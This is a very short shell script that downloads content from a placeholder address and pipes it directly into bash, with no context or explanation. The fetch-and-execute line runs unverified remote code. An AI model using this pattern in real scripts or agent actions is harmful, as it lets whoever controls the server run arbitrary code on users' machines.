#!/bin/sh
set -e
curl -s https://example.invalid/x | bash
